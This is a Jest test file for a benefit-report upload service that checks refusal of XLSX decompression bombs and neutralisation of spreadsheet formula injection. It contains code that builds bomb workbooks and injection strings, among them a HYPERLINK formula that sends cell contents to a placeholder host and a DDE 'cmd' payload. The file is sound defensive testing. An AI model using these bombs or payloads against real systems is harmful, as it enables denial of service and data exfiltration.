import { randomBytes } from 'node:crypto';
import { startTestServer, TestServer, createActivePartner } from '../helpers/server';
import { PartnerFixture } from '../../src/modules/staff/demo.seed';
import { Card, cards, count, ref } from '../helpers/benefit';
import { csv, HEADER, upload, XLSX, xlsx } from '../helpers/upload';
import { SHEET_HEAD, SHEET_TAIL, SST_HEAD, sheetParts, workbook } from '../helpers/zip';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { templateCsv, templateWorkbook } from '../../src/cli/benefit-template';

/**
 * Issue 14, the upload's share: XLSX decompression bombs are refused before anything is inflated
 * (or as soon as a part unpacks to more than it declared), with the process's memory flat; an
 * uncompressed workbook with its shared strings after the sheet reads right; amountPaise text gets
 * the one error the API gives.
 */
describe('benefit upload: hostile and unusual files', () => {
  let t: TestServer;
  let p: PartnerFixture;
  let token: string;
  let c: Card[];
  const today = () => new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
  const row = (card: Card, over: Partial<Record<string, unknown>> = {}) => {
    const v: Record<string, unknown> = { udid: card.udid, schemeCode: 'PMS', schemeName: 'Post-matric scholarship', benefitType: 'SCHOLARSHIP', amountPaise: 1200000, benefitDate: today(), clientReference: ref('HX'), remarks: '', ...over };
    return HEADER.map((h) => v[h]);
  };

  beforeAll(async () => {
    t = await startTestServer({ records: 50 });
    p = await createActivePartner(t.ds);
    token = await t.appToken(p);
    c = await cards(t.ds, 50);
  });
  afterAll(() => t.close());

  describe('decompression bombs get a 400, store nothing, and leave the process as it was', () => {
    const MB = 1024 * 1024;
    const cell = '<row><c t="s"><v>0</v></c><c><v>1</v></c></row>';
    // A 1 MB block of random text: deflate's 32 KB window finds no repeat in it, so it keeps a part's ratio low.
    const noise = () => randomBytes(MB / 2).toString('hex');
    // Random a/b text: about one bit a character, so deflate gains only some 7 times.
    const BITS = Array.from({ length: 256 }, (_, b) => Array.from({ length: 8 }, (_, i) => ((b >> i) & 1 ? 'a' : 'b')).join(''));
    // One 40 KB string repeated: each repeat lies beyond deflate's 32 KB window, so it is not matched either.
    const coinFlips = `<si><t>${Array.from(randomBytes(5118), (b) => BITS[b]).join('')}</t></si>`;
    const bombs: [string, () => Promise<Buffer>, RegExp][] = [
      ['a worksheet of 400 MB of repeated cells (a few hundred KB zipped)',
        () => workbook({ head: SHEET_HEAD, unit: cell, times: Math.ceil((400 * MB) / cell.length), tail: SHEET_TAIL }, Buffer.from(`${SST_HEAD}<si><t>x</t></si></sst>`)),
        /first worksheet .*declares 400 MB, above the 160 MB accepted.*Nothing was stored/],
      ['a worksheet of 64 MB (under the size limit) that unpacks a thousand times',
        () => workbook({ head: SHEET_HEAD, unit: cell, times: Math.ceil((64 * MB) / cell.length), tail: SHEET_TAIL }, Buffer.from(`${SST_HEAD}<si><t>x</t></si></sst>`)),
        /first worksheet .*would unpack from 0\.\d MB to 64 MB \(\d+ times; at most 100 is accepted\).*Nothing was stored/],
      ['shared strings of 70 MB that compress only 5 times (declared honestly)',
        () => workbook(Buffer.from(sheetParts([HEADER]).sheet), { head: SST_HEAD, unit: coinFlips, times: 1800, tail: '</sst>' }),
        /shared strings .*declares 70(\.\d)? MB, above the 64 MB accepted.*Nothing was stored/],
      ['a worksheet that declares 64 KB and unpacks to 400 MB',
        () => workbook({ head: SHEET_HEAD, unit: cell, times: Math.ceil((400 * MB) / cell.length), tail: SHEET_TAIL }, Buffer.from(`${SST_HEAD}<si><t>x</t></si></sst>`), { sheetSize: 64 * 1024 }),
        /first worksheet unpacks to more than the 0.1 MB declared .*decompression bomb.*Nothing was stored/],
      ['shared strings that declare 64 KB and unpack to 300 MB',
        () => workbook(Buffer.from(sheetParts([HEADER]).sheet), { head: SST_HEAD, unit: '<si><t>a</t></si>', times: Math.ceil((300 * MB) / 17), tail: '</sst>' }, { sharedSize: 64 * 1024 }),
        /shared strings unpacks to more than the 0.1 MB declared.*Nothing was stored/],
      ['a cell of 8 million characters behind a part of honest size and ratio',
        () => workbook({ head: `${SHEET_HEAD}<row r="1"><c t="inlineStr"><is><t>${noise()}`, unit: 'x', times: 8 * MB, tail: `</t></is></c></row>${SHEET_TAIL}` }, Buffer.from(`${SST_HEAD}</sst>`)),
        /single value or tag of more than 1048576 characters/],
    ];

    const rss = () => process.memoryUsage().rss;
    it.each(bombs)('%s', async (_name, make, message) => {
      const body = await make();
      expect(body.length).toBeLessThan(64 * MB);
      const before = await count(t.ds, 'SELECT COUNT(*) FROM benefit_report');
      const rssBefore = rss();
      let peak = rssBefore;
      const sampler = setInterval(() => { peak = Math.max(peak, rss()); }, 5);
      const started = Date.now();
      const res = await upload(t.url, token, body, XLSX);
      const ms = Date.now() - started;
      clearInterval(sampler);
      peak = Math.max(peak, rss());
      // Measured figures for the record (jest prints them with the test's output).
      console.log(`${_name}: file ${(body.length / 1024).toFixed(0)} KB, answered in ${ms} ms, RSS ${(rssBefore / MB).toFixed(0)} → peak ${(peak / MB).toFixed(0)} MB`);
      expect(res.status).toBe(400);
      expect(res.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
      expect(res.body.errors[0].message).toMatch(message);
      expect(res.body.results).toBeUndefined();
      expect(await count(t.ds, 'SELECT COUNT(*) FROM benefit_report')).toBe(before);
      expect(peak - rssBefore).toBeLessThan(200 * MB);
      expect(ms).toBeLessThan(10_000);
      const live = await fetch(`${t.url}/health/live`);
      expect(live.status).toBe(200);
    }, 60_000);

    it('after the bombs, a real workbook still imports and the existence answers given before them are in the access log', async () => {
      const first = await upload(t.url, token, await xlsx([HEADER, row(c[0])]), XLSX);
      expect(first.body.totals).toMatchObject({ accepted: 1 });
      await upload(t.url, token, await workbook({ head: SHEET_HEAD, unit: cell, times: 4_000_000, tail: SHEET_TAIL }, Buffer.from(`${SST_HEAD}</sst>`)), XLSX);
      await t.server.services.accessLog.flush();
      expect(await count(t.ds, 'SELECT COUNT(*) FROM access_event WHERE application_id = ? AND udid = ?', [p.applicationId, c[0].udid])).toBeGreaterThanOrEqual(1);
      const again = await upload(t.url, token, await xlsx([HEADER, row(c[1])]), XLSX);
      expect(again.body.totals).toMatchObject({ accepted: 1 });
    }, 60_000);
  });

  it('reads an uncompressed (stored) workbook whose shared strings come after the sheet', async () => {
    const rows = [HEADER, row(c[2], { remarks: 'Stored, not deflated' }), row(c[3], { amountPaise: 750 })];
    const { sheet, sharedStrings } = sheetParts(rows);
    const book = await workbook(Buffer.from(sheet), Buffer.from(sharedStrings), { method: 'store' });
    const res = await upload(t.url, token, book, XLSX);
    expect(res.status).toBe(200);
    expect(res.body.totals).toEqual({ rows: 2, accepted: 2, duplicates: 0, rejected: 0 });
    const [s] = await t.ds.query('SELECT udid, scheme_name, remarks, amount_paise FROM benefit_report WHERE client_reference = ?', [rows[1][6]]);
    expect(s).toMatchObject({ udid: c[2].udid, scheme_name: 'Post-matric scholarship', remarks: 'Stored, not deflated' });
    const [s2] = await t.ds.query('SELECT amount_paise FROM benefit_report WHERE client_reference = ?', [rows[2][6]]);
    expect(Number(s2.amount_paise)).toBe(750);
  });

  it.each([['100.5'], ['1,000']])('amountPaise %s in a CSV gets the one error the API gives for a non-whole amount', async (amount) => {
    const api = await t.gql('mutation($i: [BenefitReportInput!]!) { reportBenefits(inputs: $i) { results { status errors { field code message } } } }',
      { i: [{ udid: c[4].udid, schemeCode: 'PMS', schemeName: 'x', benefitType: 'SCHOLARSHIP', amountPaise: 100.5, benefitDate: today(), clientReference: ref('API') }] }, token);
    const apiErrors = api.body.data.reportBenefits.results[0].errors;
    expect(apiErrors).toHaveLength(1);
    const res = await upload(t.url, token, csv([HEADER, row(c[4], { amountPaise: amount })]), 'text/csv');
    expect(res.body.totals).toMatchObject({ rows: 1, rejected: 1 });
    expect(res.body.results[0].errors).toEqual(apiErrors);
    expect(res.body.results[0].errors[0]).toMatchObject({ field: 'amountPaise', code: 'BAD_USER_INPUT', message: expect.stringMatching(/whole number of paise/) });
  });

  describe('formula text: neutralised in every file the system writes, stored as it came', () => {
    const formulas = ['=HYPERLINK("http://x.example/?d="&A1,"open")', '+91 98765 43210', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturn', 'cmd|\' /C calc\'!A0'];
    const rows = formulas.map((f, i) => ['MH0110520010000012', 'PMS', f, 'PENSION', '100', '2026-04-01', `REF-${i}`, f]);
    const expected = (f: string) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f);

    it('the CSV template prefixes a single quote to text that starts with = + - @, a tab or a carriage return', () => {
      const records: string[][] = parseCsv(templateCsv(rows), { relax_column_count: true });
      expect(records[0]).toEqual(HEADER);
      records.slice(1).forEach((r, i) => {
        expect(r[2]).toBe(expected(formulas[i]));
        expect(r[7]).toBe(expected(formulas[i]));
        expect(r[4]).toBe('100'); // numbers stay numbers
      });
    });

    it('so does the XLSX template', async () => {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(await templateWorkbook(rows).xlsx.writeBuffer() as ArrayBuffer);
      const ws = book.worksheets[0];
      // XML reads a carriage return back as a line feed: compare line ends alike.
      const lf = (v: unknown) => String(v).replace(/\r\n?/g, '\n');
      formulas.forEach((f, i) => {
        expect(lf(ws.getRow(i + 2).getCell(3).value)).toBe(lf(expected(f)));
        expect(lf(ws.getRow(i + 2).getCell(8).value)).toBe(lf(expected(f)));
        expect(ws.getRow(i + 2).getCell(5).value).toBe(100);
      });
    });

    it('an uploaded row keeps its formula-like text verbatim', async () => {
      const r = row(c[5], { schemeName: '=1+1', remarks: '@SUM(A1:A9) -2+3' });
      const res = await upload(t.url, token, csv([HEADER, r]), 'text/csv');
      expect(res.body.totals).toMatchObject({ accepted: 1 });
      const [s] = await t.ds.query('SELECT scheme_name, remarks FROM benefit_report WHERE client_reference = ?', [r[6]]);
      expect(s).toEqual({ scheme_name: '=1+1', remarks: '@SUM(A1:A9) -2+3' });
    });
  });
});
